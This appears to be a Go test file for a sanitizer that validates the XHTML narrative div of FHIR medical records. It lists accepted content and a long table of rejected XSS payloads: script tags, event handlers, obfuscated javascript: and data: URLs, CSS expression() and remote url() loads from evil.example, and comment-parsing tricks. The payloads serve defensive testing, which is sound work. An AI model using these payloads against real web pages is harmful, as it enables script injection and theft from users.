package narrative

import (
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"yitong/internal/fhir/primitive"
)

// div puts content into the div of a narrative.
func div(content string) string {
	return `<div xmlns="http://www.w3.org/1999/xhtml">` + content + `</div>`
}

const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="

// safe are contents of a div that are taken.
var safe = []string{
	`text`,
	`张伟，男，58 岁`,
	`<p>a</p><p>b</p>`,
	`<b>a</b><br/><i>b</i><br />c<hr></hr>`,
	`<h1>a</h1><h6>b</h6><blockquote><p>c</p></blockquote><pre> d
 e</pre>`,
	`<ul class="x"><li>a</li></ul><ol start="3" type="a" compact="compact"><li value="4">b</li></ol>` +
		`<dl><dt>c</dt><dd>d</dd></dl>`,
	`<table border="1" cellpadding="0" cellspacing="0" summary="s" width="100%" rules="all" frame="box">` +
		`<caption>c</caption><colgroup span="2"><col width="10"/></colgroup>` +
		`<thead><tr><th scope="col" abbr="a" axis="x">h</th></tr></thead><tfoot><tr><td>f</td></tr></tfoot>` +
		`<tbody><tr valign="top"><td colspan="2" rowspan="1" headers="h" nowrap="nowrap"` +
		` align="char" char="." charoff="1" bgcolor="#fff">d</td></tr></tbody></table>`,
	`<abbr title="a">a</abbr><acronym>b</acronym><big>c</big><cite>d</cite><code>e</code><dfn>f</dfn><em>g</em>` +
		`<q cite="http://a">h</q><samp>i</samp><small>j</small><span>k</span><strong>l</strong><sub>m</sub>` +
		`<sup>n</sup><tt>o</tt><var>p</var>`,
	`<a name="top"/><a href="#top">a</a><a>b</a>`,
	`<a href="http://example.org/?a=b&amp;c=d#e" hreflang="zh" rel="next" rev="prev" tabindex="1" accesskey="a">a</a>`,
	`<a href="https://example.org">a</a><a href="HTTPS://example.org">b</a><a href="//example.org/a:b">c</a>`,
	`<a href="mailto:a@example.org">a</a><a href="tel:+861012345678">b</a>`,
	`<a href="ftp://a/b">c</a><a href=" http://a">d</a>`,
	`<a href="Patient/1">a</a><a href="../a?b:c">b</a><a href="#a:b">c</a><a href="">d</a><a href="urn:uuid:1">e</a>`,
	`<a href="?javascript:alert(1)">a</a><a href="./javascript:alert(1)">b</a>`,
	`<img src="a.png" alt="a" height="1" width="1" hspace="1" vspace="1" longdesc="b.html"/>`,
	`<img src="#pic1"/>`,
	`<img src="data:image/png;base64,` + pixel + `"/>`,
	`<img src="data:image/png;base64,` + pixel[:40] + "\n" + pixel[40:] + `"/>`,
	`<img src="DATA:Image/JPEG;BASE64,` + pixel + `" alt="a"/>`,
	`<p style="color: #333; margin-top: 2px; background-position: left; list-style-position: inside">a</p>`,
	`<p style="/* plain */ color: red; rgb: position2 my-position">a</p>`,
	`<p style="color: rgb(1, 2, 3); background: RGBA(1,2,3,.5); border: 1px solid hsl(1,2%,3%)">a</p>`,
	`<p style="font-family: &quot;SimSun&quot;, '宋体'">a</p>`,
	`<td style="background-image: url(data: image/png;base64,` + pixel + `); border: 0">a</td>`,
	`<td style='background-image: url("data:image/gif;base64,` + pixel + `")'>a</td>`,
	`<td style='background-image: url( &apos;data:image/gif;base64,` + pixel + `&apos; )'>a</td>`,
	`<p lang="zh" xml:lang="zh" dir="ltr" id="a" class='b' title="a > b">a</p>`,
	`<p title='"'>a</p><p title="'">b</p><p title = "c" >d</p><p
	title="e">f</p >`,
	`&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;&apos; &#65;&#x42;&#x4e00;&#128512;&#00000000000000065;`,
	`a &gt; b > c ]] > ]]&gt;`,
	`<!-- a comment --><p>a</p><!----><!-- a - b > c <script> -->`,
	`<p xmlns="http://www.w3.org/1999/xhtml">a</p>`,
	`onclick="alert(1)" javascript:alert(1)`,
	strings.Repeat("<div>", MaxDepth-1) + "a" + strings.Repeat("</div>", MaxDepth-1),
}

// whole are texts around which nothing is put, and that are taken.
var whole = []string{
	`<div xmlns='http://www.w3.org/1999/xhtml'>a</div>`,
	" \n" + div("a") + "\n ",
	`<div class="a" xmlns="http://www.w3.org/1999/xhtml" lang="zh">a</div>`,
}

func TestSafe(t *testing.T) {
	t.Parallel()
	for _, content := range safe {
		if p := Check(div(content)); p != nil {
			t.Errorf("%s: %s at %d", content, p.English, p.Offset)
		}
	}
	for _, text := range whole {
		if p := Check(text); p != nil {
			t.Errorf("%s: %s at %d", text, p.English, p.Offset)
		}
	}
}

// attacks are contents of a div, which stands in front of them, with the answer to each. • stands where the answer
// points.
var attacks = []struct {
	content string
	want    primitive.Problem
}{
	// Elements that act, load, ask or govern the page.
	{`•<script>alert(1)</script>`, noSuchElement},
	{`•<script src="http://evil.example/x.js"/>`, noSuchElement},
	{`•<SCRIPT>alert(1)</SCRIPT>`, noSuchElement},
	{`<p>a</p>•<ScRiPt>alert(1)</sCrIpT>`, noSuchElement},
	{`•<script/x>alert(1)</script>`, noSuchElement},
	{`•<style>p { color: red }</style>`, noSuchElement},
	{`•<link rel="stylesheet" href="http://evil.example/x.css"/>`, noSuchElement},
	{`•<base href="http://evil.example/"/>`, noSuchElement},
	{`•<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>`, noSuchElement},
	{`•<iframe src="http://evil.example"/>`, noSuchElement},
	{`•<frameset><frame src="a"/></frameset>`, noSuchElement},
	{`•<object data="a.swf"/>`, noSuchElement},
	{`•<embed src="a.swf"/>`, noSuchElement},
	{`•<applet code="a"/>`, noSuchElement},
	{`•<form action="http://evil.example"><input name="a"/></form>`, noSuchElement},
	{`•<input autofocus="" onfocus="alert(1)"/>`, noSuchElement},
	{`•<button>a</button>`, noSuchElement},
	{`•<textarea>a</textarea>`, noSuchElement},
	{`•<select><option>a</option></select>`, noSuchElement},
	{`•<svg onload="alert(1)"/>`, noSuchElement},
	{`•<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, noSuchElement},
	{`•<math><mi xlink:href="javascript:alert(1)">a</mi></math>`, noSuchElement},
	{`•<video src="a"/>`, noSuchElement},
	{`•<audio src="a" onerror="alert(1)"/>`, noSuchElement},
	{`•<details open="" ontoggle="alert(1)">a</details>`, noSuchElement},
	{`•<marquee onstart="alert(1)">a</marquee>`, noSuchElement},
	{`•<body onload="alert(1)">a</body>`, noSuchElement},
	{`•<html>a</html>`, noSuchElement},
	{`•<head/>a`, noSuchElement},
	{`•<template><script>alert(1)</script></template>`, noSuchElement},
	{`•<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>`, noSuchElement},
	{`•<xmp>a</xmp>`, noSuchElement},
	{`•<plaintext>a`, noSuchElement},
	{`•<title>a</title>`, noSuchElement},
	{`•<map name="a"/>`, noSuchElement},
	{`•<ins>a</ins>`, noSuchElement}, // HTML 4.0, chapter 9, section 4
	{`•<del>a</del>`, noSuchElement},
	{`•<font color="red">a</font>`, noSuchElement},
	{`•<center>a</center>`, noSuchElement},
	{`•<P>a</P>`, noSuchElement},
	{`•<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, noSuchElement},
	{`•<h:p>a</h:p>`, noSuchElement},
	{`•<ｓcript>alert(1)</ｓcript>`, noSuchElement},

	// Attributes that act or load.
	{`<p •onclick="alert(1)">a</p>`, noSuchAttribute},
	{`<p •ONCLICK="alert(1)">a</p>`, noSuchAttribute},
	{`<img src="x" •onerror="alert(1)"/>`, noSuchAttribute},
	{`<img src="x"•onerror="alert(1)"/>`, notAttribute},
	{`<img src="x" •onerror=alert(1)>`, noSuchAttribute},
	{`<a •onmouseover = 'alert(1)'>a</a>`, noSuchAttribute},
	{`<p •onfuturething="alert(1)">a</p>`, noSuchAttribute},
	{`<p •data-x="a">a</p>`, noSuchAttribute},
	{`<a href="http://a" •target="_blank">a</a>`, noSuchAttribute},
	{`<a href="http://a" •ping="http://evil.example">a</a>`, noSuchAttribute},
	{`<a •xlink:href="javascript:alert(1)">a</a>`, noSuchAttribute},
	{`<p •xmlns:xlink="http://www.w3.org/1999/xlink">a</p>`, noSuchAttribute},
	{`<p •xml:base="javascript:">a</p>`, noSuchAttribute},
	{`<table •background="javascript:alert(1)"><tr/></table>`, noSuchAttribute},
	{`<img •dynsrc="javascript:alert(1)"/>`, noSuchAttribute},
	{`<img •srcset="http://evil.example/a 1x"/>`, noSuchAttribute},
	{`<img src="a" •usemap="#a"/>`, noSuchAttribute},
	{`<p •contenteditable="true">a</p>`, noSuchAttribute},
	{`<p •HREF="a">a</p>`, noSuchAttribute},

	// Links that act.
	{`<a •href="javascript:alert(1)">a</a>`, noSuchLink},
	{`<a •href="JaVaScRiPt:alert(1)">a</a>`, noSuchLink},
	{`<a •href=" javascript:alert(1)">a</a>`, noSuchLink},
	{"<a •href=\"java\nscript:alert(1)\">a</a>", noSuchLink},
	{"<a •href=\"\tjavascript:alert(1)\">a</a>", noSuchLink},
	{`<a •href="jav&#9;ascript:alert(1)">a</a>`, noSuchLink},
	{`<a •href="jav&#x0A;ascript:alert(1)">a</a>`, noSuchLink},
	{`<a •href="javascript&#58;alert(1)">a</a>`, noSuchLink},
	{`<a •href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>`, noSuchLink},
	{`<a •href="&#x6A;avascript:alert(1)">a</a>`, noSuchLink},
	{`<a href="•&#1;javascript:alert(1)">a</a>`, notReference},
	{`<a href="javascript•&colon;alert(1)">a</a>`, notReference},
	{`<a href="java•&Tab;script:alert(1)">a</a>`, notReference},
	{`<a href="•&#106avascript:alert(1)">a</a>`, notReference},
	{`<a •href="vbscript:msgbox(1)">a</a>`, noSuchLink},
	{`<a •href="livescript:alert(1)">a</a>`, noSuchLink},
	{`<a •href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</a>`, noSuchLink},
	{`<a •href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>`, noSuchLink},
	{`<a •href="data:image/png;base64,` + pixel + `">a</a>`, noSuchLink},
	{`<a •href="file:///etc/passwd">a</a>`, noSuchLink},
	{`<a •href="blob:http://a">a</a>`, noSuchLink},
	{`<a •href="view-source:http://a">a</a>`, noSuchLink},
	{`<a •href=":javascript:alert(1)">a</a>`, noSuchLink},
	{`<q •cite="javascript:alert(1)">a</q>`, noSuchLink},
	{`<img •src="javascript:alert(1)"/>`, noSuchLink},
	{`<img •src="data:image/svg+xml;base64,PHN2Zy8+"/>`, noSuchLink},
	{`<img •src="data:image/svg+xml,&lt;svg onload='alert(1)'/&gt;"/>`, noSuchLink},
	{`<img •src="data:text/html;base64,YQ=="/>`, noSuchLink},
	{`<img •src="data:image/png;base64,YQ==&lt;script&gt;"/>`, noSuchLink},
	{`<img •src="data:image/png,a"/>`, noSuchLink},
	{`<img •src="data:image/png;charset=x;base64,YQ=="/>`, noSuchLink},
	{`<img src="a" •longdesc="javascript:alert(1)"/>`, noSuchLink},
	{`<p •src="data:image/png;base64,` + pixel + `">a</p>`, noSuchLink},

	// Styles that act, load or overlay.
	{`<p •style="background: url(http://evil.example/a.png)">a</p>`, noSuchStyle},
	{`<p •style="background: URL ('http://evil.example/a.png')">a</p>`, noSuchStyle},
	{`<p •style="background: url(javascript:alert(1))">a</p>`, noSuchStyle},
	{`<p •style="background: url(a.png)">a</p>`, noSuchStyle},
	{`<p •style="background: url()">a</p>`, noSuchStyle},
	{`<p •style="background: url(">a</p>`, noSuchStyle},
	{`<p •style="background: url(data:image/svg+xml;base64,PHN2Zy8+)">a</p>`, noSuchStyle},
	{`<p •style="background: url(data:image/png;base64,YQ==;) url(x)">a</p>`, noSuchStyle},
	{`<p •style="background: url('data:image/png;base64,YQ==)">a</p>`, noSuchStyle},
	{`<p •style="background: url(data:image/png;base64,YQ==); width: expression(alert(1))">a</p>`, noSuchStyle},
	{`<p •style="background: u&#114;l(http://evil.example)">a</p>`, noSuchStyle},
	{`<p •style="background: \75\72\6c(http://evil.example)">a</p>`, noSuchStyle},
	{`<p •style="background: u\rl(http://evil.example)">a</p>`, noSuchStyle},
	{`<p •style="width: expression(alert(1))">a</p>`, noSuchStyle},
	{`<p •style="width: EXPRESSION(alert(1))">a</p>`, noSuchStyle},
	{`<p •style="width: exp/**/ression(alert(1))">a</p>`, noSuchStyle},
	{`<p •style="pos\69tion: fixed">a</p>`, noSuchStyle},
	{`<p •style="background: url(data:image/png;base64,YQ==, 'http://evil.example')">a</p>`, noSuchStyle},
	{`<p •style="background: url(data:image/png;base64,YQ==">a</p>`, noSuchStyle},
	{`<p •style="width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))">a</p>`, noSuchStyle},
	{`<p •style="width: ｒgb(1)">a</p>`, noSuchStyle},
	{`<p •style="@import 'http://evil.example/x.css'">a</p>`, noSuchStyle},
	{`<p •style="behavior: url(x.htc)">a</p>`, noSuchStyle},
	{`<p •style="-moz-binding: url(x.xml#a)">a</p>`, noSuchStyle},
	{`<p •style="background: image-set('http://evil.example/a.png' 1x)">a</p>`, noSuchStyle},
	{`<p •style="background: image('http://evil.example/a.png')">a</p>`, noSuchStyle},
	{`<p •style="filter: progid:x.AlphaImageLoader(src='http://evil.example')">a</p>`, noSuchStyle},
	{`<p •style="width: calc(1px); (x)">a</p>`, noSuchStyle},
	{`<p •style="position: fixed; top: 0">a</p>`, noSuchStyle},
	{`<p •style="top:0;POSITION :absolute">a</p>`, noSuchStyle},

	// What XML and HTML read differently.
	{`•<!--> <script>alert(1)</script> -->`, notComment},
	{`•<!---> <script>alert(1)</script> -->`, notComment},
	{`•<!-- a -- b -->`, notComment},
	{`•<!-- a --!> <script>alert(1)</script> -->`, notComment},
	{`•<!-- a --->`, notComment},
	{`•<!-- a`, notComment},
	{`•<![CDATA[<script>alert(1)</script>]]>`, declaration},
	{`•<![CDATA[><script>alert(1)</script>]]>`, declaration},
	{`•<!DOCTYPE html>`, declaration},
	{`•<!ENTITY a "b">`, declaration},
	{`•<!foo>`, declaration},
	{`•<?xml-stylesheet href="x.xsl"?>`, declaration},
	{`•<?php echo 1 ?>`, declaration},
	{`•<%= 1 %>`, notTag},
	{`•< script>alert(1)</script>`, notTag},
	{`a •< b`, notTag},
	{`•</>`, notTag},
	{`•</p/>`, notTag},
	{`<p •=a="b">a</p>`, notAttribute},
	{`<p title•>a</p>`, notAttribute},
	{`<p title=•a>a</p>`, notAttribute},
	{"<p title=•`a`>a</p>", notAttribute},
	{`<p title="•<">a</p>`, notAttribute},
	{`<p title="a"•class="b">a</p>`, notAttribute},
	{`<p title="a>a•</p>`, notAttribute},
	{`<p title="a" •title="b">a</p>`, twice},
	{`<a href="#a" •href="javascript:alert(1)">a</a>`, twice},
	{`<p •/ title="a">a</p>`, notAttribute},
	{`<p •`, notAttribute},
	{`<p•`, notAttribute},
	{`•<`, notTag},
	{`<p title•`, notAttribute},
	{`<p title=•`, notAttribute},

	// Not well-formed in other ways.
	{`<p>a•</div>`, notOpen},
	{`<b><i>a•</b></i>`, notOpen},
	{`<br>a•</div>`, notOpen},
	{`a•</p>`, notOpen},
	{`a•&nbsp;b`, notReference},
	{`a•&copy;b`, notReference},
	{`a •& b`, notReference},
	{`a•&ampb`, notReference},
	{`a•&;b`, notReference},
	{`a•&#;b`, notReference},
	{`a•&#x;b`, notReference},
	{`a•&#0;b`, notReference},
	{`a•&#xD800;b`, notReference},
	{`a•&#xFFFE;b`, notReference},
	{`a•&#x110000;b`, notReference},
	{`a•&#99999999999999999999;b`, notReference},
	{`a•&#X41;b`, notReference},
	{`a•&#4a;b`, notReference},
	{`a•&#-65;b`, notReference},
	{`a•&AMP;b`, notReference},
	{`a•&#00000000000000000000000000000000065;b`, notReference},
	{`<p title="a•&nbsp;b">c</p>`, notReference},
	{`a•]]>b`, notText},
	{"a•\x00b", notCharacter},
	{"a•\x0bb", notCharacter},
	{"<!-- •\x01 -->a", notCharacter},
	{"a•\xffb", notCharacter},
	{"a•\xed\xa0\x80b", notCharacter},
	{"a•\uffffb", notCharacter},
	{`<p •xmlns="http://www.w3.org/2000/svg">a</p>`, notXHTML},
	{strings.Repeat("<div>", MaxDepth-1) + "•<b>a</b>", tooDeep},
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	start := strings.TrimSuffix(div(""), "</div>")
	for _, a := range attacks {
		before, after, ok := strings.Cut(a.content, "•")
		if !ok {
			t.Errorf("%q does not say where", a.content)
		}
		refused(t, start+before+after+"</div>", len(start+before), a.want)
	}
}

func refused(t *testing.T, text string, offset int, want primitive.Problem) {
	t.Helper()
	p := Check(text)
	if p == nil {
		t.Errorf("%q is taken", text)
		return
	}
	prefix, _, _ := strings.Cut(want.English, "%")
	if p.Code != want.Code || !strings.HasPrefix(p.English, prefix) {
		t.Errorf("%.200q: %s", text, p.English)
	}
	if p.Offset != offset {
		t.Errorf("%.200q: the offset is %d, want %d", text, p.Offset, offset)
	}
	if strings.Contains(p.English+p.Chinese, "%") || !utf8.ValidString(p.English+p.Chinese) {
		t.Errorf("%.200q: %s %s", text, p.English, p.Chinese)
	}
}

func TestNotADiv(t *testing.T) {
	t.Parallel()
	root := strings.TrimSuffix(div(""), "</div>")
	for _, c := range []struct {
		text   string
		offset int
		want   primitive.Problem
	}{
		{"", 0, notDiv},
		{" ", 1, notDiv},
		{"text", 0, notDiv},
		{`<p xmlns="http://www.w3.org/1999/xhtml">a</p>`, 0, notDiv},
		{`<divx>a</divx>`, 0, noSuchElement},
		{`<?xml version="1.0"?>` + div("a"), 0, notDiv},
		{`<!DOCTYPE div>` + div("a"), 0, notDiv},
		{`<!-- a -->` + div("a"), 0, notDiv},
		{"\ufeff" + div("a"), 0, notDiv},
		{`<h:div xmlns:h="http://www.w3.org/1999/xhtml">a</h:div>`, 0, notDiv},
		{`<div>a</div>`, 0, notXHTML},
		{`<div xmlns="">a</div>`, 5, notXHTML},
		{`<div xmlns="http://www.w3.org/1999/xhtml/">a</div>`, 5, notXHTML},
		{`<div xmlns="http://hl7.org/fhir">a</div>`, 5, notXHTML},
		{root, len(root), notClosed},
		{root + "a", len(root) + 1, notClosed},
		{root + "<p>a</p>", len(root) + 8, notClosed},
		{div("a") + div("b"), len(div("a")), notDiv},
		{div("a") + "b", len(div("a")), notDiv},
		{div("a") + "<!-- b -->", len(div("a")), notDiv},
		{strings.Repeat("<", 1<<16), 0, notDiv},
	} {
		refused(t, c.text, c.offset, c.want)
	}
}

func TestEmpty(t *testing.T) {
	t.Parallel()
	for _, content := range []string{"", " ", "\n\t", "<p></p>", "<p/>", "<br/>", "<!-- a -->", "&#32;", "&#160;",
		"&#x3000;", "\u00a0", "　",
		"<img/>", `<img alt="a"/>`, `<a name="a"/>`, `<p title="a"> </p>`} {
		refused(t, div(content), 0, empty)
	}
	refused(t, strings.Replace(div(""), "></div>", "/>", 1), 0, empty)
	for _, content := range []string{"a", "&#97;", "&amp;", "<p>a</p>", "<p/>a", `<img src="a.png"/>`, "医"} {
		if p := Check(div(content)); p != nil {
			t.Errorf("%q: %s", content, p.English)
		}
	}
}

func TestLongest(t *testing.T) {
	t.Parallel()
	fill := strings.Repeat("a", MaxBytes-len(div("")))
	if p := Check(div(fill)); p != nil {
		t.Errorf("%s at %d", p.English, p.Offset)
	}
	refused(t, div(fill+"a"), MaxBytes, tooLong)
	for limit, p := range map[int]primitive.Problem{MaxBytes: tooLong, MaxDepth: tooDeep} {
		if number := strconv.Itoa(limit); !strings.Contains(p.English, number) || !strings.Contains(p.Chinese, number) {
			t.Errorf("the message names another limit than %d: %s", limit, p.English)
		}
	}
}

// A message names what it is about, but not more of it than reads well.
func TestNamesInMessages(t *testing.T) {
	t.Parallel()
	p := Check(div(`<video/>`))
	if !strings.Contains(p.English, "element video ") || !strings.Contains(p.Chinese, "元素 video") {
		t.Errorf("%s %s", p.English, p.Chinese)
	}
	long := strings.Repeat("医", 100)
	if p = Check(div("<" + long + "/>")); len(p.English) > 300 || !strings.Contains(p.English, "医…") {
		t.Errorf("%s", p.English)
	}
	if !strings.Contains(noSuchElement.English, "%") {
		t.Error("the text of a message has been filled in for good")
	}
}
